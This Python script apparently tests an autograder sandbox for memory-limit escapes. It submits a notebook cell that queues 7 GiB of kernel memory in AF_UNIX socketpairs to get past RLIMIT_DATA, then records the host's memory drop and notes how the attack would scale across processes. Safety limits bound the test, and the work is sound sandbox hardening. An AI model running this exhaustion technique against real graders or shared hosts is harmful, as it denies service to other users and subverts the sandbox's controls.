"""a03: memory no rlimit counts, from ONE process of the kernel (ordinary user: no cgroup, RLIMIT_DATA = 6 GiB per
process is the only memory cap): data queued in AF_UNIX socketpairs (RLIMIT_NOFILE is 20000 in the sandbox, each
direction holds up to 2 x wmem_max of skbs) is kernel memory, not the process's data segment nor its RSS.
Same class as round 5's memfd/shared-anon escape (fixed by seccomp), by a call the filter allows (socketpair).
Safety: the cell stops filling at 7 GiB or when the host's MemAvailable drops under 5 GiB, holds 30 s, then frees."""
from u6 import *
import threading, time

SOCK = r'''
import os, socket, resource, time
def avail():
    for l in open("/proc/meminfo"):
        if l.startswith("MemAvailable"): return int(l.split()[1]) * 1024
a0 = avail(); socks = []; chunk = b"x" * 65536; held = 0
while held < 7 * 2**30 and avail() > 5 * 2**30 and len(socks) < 19000:
    a, b = socket.socketpair()
    for s in (a, b):
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        s.setblocking(False)
        while True:
            try: held += s.send(chunk)
            except BlockingIOError: break
    socks += [a, b]
rss = int(open("/proc/self/statm").read().split()[1]) * 4096
print(f"socketpairs {len(socks)//2}, bytes queued {held/2**30:.2f} GiB, host MemAvailable fell by {(a0-avail())/2**30:.2f} GiB, "
      f"process RSS {rss/2**20:.0f} MiB, RLIMIT_DATA {resource.getrlimit(resource.RLIMIT_DATA)[0]/2**30:.0f} GiB", flush=True)
time.sleep(30)
for s in socks: s.close()
q1 = "a"
'''
def monitor(stop, log):
    while not stop.is_set():
        m = {l.split(":")[0]: int(l.split()[1]) for l in open("/proc/meminfo")}
        log.append((time.strftime("%H:%M:%S"), m["MemAvailable"] // 1024, m["Slab"] // 1024))
        time.sleep(5)

if __name__ == "__main__":
    log = []; stop = threading.Event(); t = threading.Thread(target=monitor, args=(stop, log)); t.start()
    try:
        dest, p = ugrade("03", {"sock": notebook({"quiz_q1": SOCK}), "zz_honest": honest_nb()})
    finally:
        stop.set(); t.join()
    print("host (time, MemAvailable MiB, Slab MiB):", log)
    outputs(dest, "sock")

# RESULT (ordinary user, 274 s, a03.out.txt): BROKEN (memory cap). ONE process of the kernel queued 7.00 GiB in 457
# AF_UNIX socketpairs (SO_SNDBUF up to 2 x wmem_max = 8 MiB a direction here) while RLIMIT_DATA is 6 GiB: the host's
# MemAvailable fell by 7.54 GiB (monitor: 18.7 GiB at 06:39:19 -> 10.97 GiB at 06:40:19, back to 18.7 GiB at
# 06:40:49 when the cell closed them), Slab +0.6 GiB, the process's RSS 269 MiB (the rest is in no RSS: the OOM
# killer would pick the grader's processes first, cf. round 5 a08). The cell stopped at 7 GiB on purpose; with
# 256 processes of RLIMIT_NOFILE 20000 nothing caps it below the host's memory. Same class as round 5's
# memfd/shared-anon escape (fixed by seccomp), through socketpair()+send(), which the filter must allow.
# (pipes are capped per user by pipe-user-pages-soft; unix sockets are not.) sock 0/30; zz_honest after it 24/24.
